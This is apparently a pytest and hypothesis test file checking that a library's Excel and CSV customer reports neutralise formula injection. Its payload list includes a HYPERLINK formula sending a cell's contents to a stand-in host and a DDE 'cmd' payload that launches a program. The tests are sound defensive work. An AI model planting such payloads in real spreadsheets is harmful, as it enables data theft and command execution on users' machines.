"""Nothing custlib writes can execute: no formula in the workbook, none in its CSV."""

from __future__ import annotations

import csv
import dataclasses

import openpyxl
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from custlib import report
from custlib.report import excel

PAYLOADS = [
    '=HYPERLINK("http://x.invalid/?l="&B2,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    " =2+2",
    "=1+1\x0b",
]


def _small(crm, n=40):
    """The first ``n`` customers of the bundled data with their rows in every table."""
    ids = set(crm.customers["customer_id"].head(n))
    parts = {}
    for f in dataclasses.fields(crm):
        df = getattr(crm, f.name)
        if hasattr(df, "columns") and "customer_id" in df.columns:
            parts[f.name] = df[df["customer_id"].isin(ids)].copy()
    return dataclasses.replace(crm, **parts)


def _crm_with_names(crm, names):
    customers = crm.customers.copy()
    col = customers["customer_name"].astype(object)
    for i, name in enumerate(names):
        col.iloc[i] = name
    customers["customer_name"] = col
    return dataclasses.replace(crm, customers=customers)


def _cells(path):
    book = openpyxl.load_workbook(path)          # not read-only: data types are kept
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_payloads_are_text_cells_in_the_workbook(crm, tmp_path):
    path = report.write_workbook(_crm_with_names(_small(crm), PAYLOADS), tmp_path / "wb.xlsx")
    cells = list(_cells(path))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert '=HYPERLINK("http://x.invalid/?l="&B2,"click")' in texts   # shown as written
    assert "=1+1" in texts                                   # the vertical tab was removed
    assert not any("\x0b" in t for t in texts)


def test_payloads_are_neutralised_in_the_csv_beside_the_workbook(crm, tmp_path, monkeypatch):
    monkeypatch.setattr(excel, "EXCEL_INLINE_ROWS", 10)     # the master table goes to CSV
    report.write_workbook(_crm_with_names(_small(crm), PAYLOADS), tmp_path / "wb.xlsx")
    files = sorted(tmp_path.glob("wb-*.csv"))
    assert files
    seen = []
    for f in files:
        with open(f, encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                seen += row
    assert not [v for v in seen if v.startswith(report.FORMULA_START)]
    assert "'=cmd|' /C calc'!A0" in seen and "'\t=1+1" in seen


@settings(max_examples=10, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.text(alphabet=st.characters(codec="utf-8"), min_size=1, max_size=20),
                min_size=1, max_size=5),
       st.sampled_from(["=", "+", "-", "@", "\t", "\r", ""]))
def test_no_text_written_to_the_workbook_can_start_a_formula(crm, tmp_path_factory, names, lead):
    path = tmp_path_factory.mktemp("wb") / "wb.xlsx"
    report.write_workbook(_crm_with_names(_small(crm), [lead + n for n in names]), path)
    assert not [c.coordinate for c in _cells(path) if c.data_type == "f"]


@given(st.text(max_size=30))
def test_csv_safe_text_never_starts_a_formula_and_keeps_the_rest(text):
    safe = report.csv_safe(text)
    assert not safe.startswith(report.FORMULA_START)
    assert safe in (text, "'" + text)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.one_of(st.none(), st.text(alphabet="=+-@\t\rA1 '", max_size=5)), max_size=20))
def test_neutralise_is_the_owasp_rule_on_any_text(values):
    # the quick look at first characters gives what the rewrite of every value gives
    import pyarrow as pa

    from custlib.io.normalise import FORMULA_START, neutralise

    got = neutralise(pa.array(values, pa.string())).to_pylist()
    assert got == [None if v is None else ("'" + v if v.startswith(FORMULA_START) else v)
                   for v in values]
